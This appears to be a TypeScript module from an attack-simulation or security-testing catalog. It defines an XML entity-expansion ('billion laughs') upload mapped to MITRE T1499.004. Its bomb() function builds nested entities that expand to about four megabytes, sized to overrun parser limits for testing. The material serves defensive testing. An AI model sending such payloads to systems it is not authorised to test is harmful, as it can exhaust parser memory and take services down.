import { upload } from '../../../upload.ts';
import { utf8 } from '../../../utf8.ts';

/** Entities of entities: little to send, much to expand. */
export const technique = upload({
  id: 'impact.entity-bomb-upload',
  title: 'Upload a document whose entities multiply',
  purpose: 'A parser that expands entities without a limit runs out of memory.',
  mitre: ['T1499.004'],
  sources: [
    {
      title: 'Endpoint Denial of Service: Application or System Exploitation, MITRE ATT&CK',
      url: 'https://attack.mitre.org/techniques/T1499/004/',
    },
  ],
  contentType: 'application/xml',
  payload: () => utf8(bomb()),
});

/** Six levels of ten: a million words of four letters, four megabytes. It overruns sane limits and harms no laptop. */
function bomb(): string {
  const entities = Array.from({ length: 6 }, (_, level) => {
    const inner = level === 0 ? 'ha! ' : `&e${level - 1};`;
    return `<!ENTITY e${level} "${inner.repeat(10)}">`;
  });
  return `<?xml version="1.0"?>\n<!DOCTYPE order [${entities.join('')}]>\n<order>&e5;</order>\n`;
}
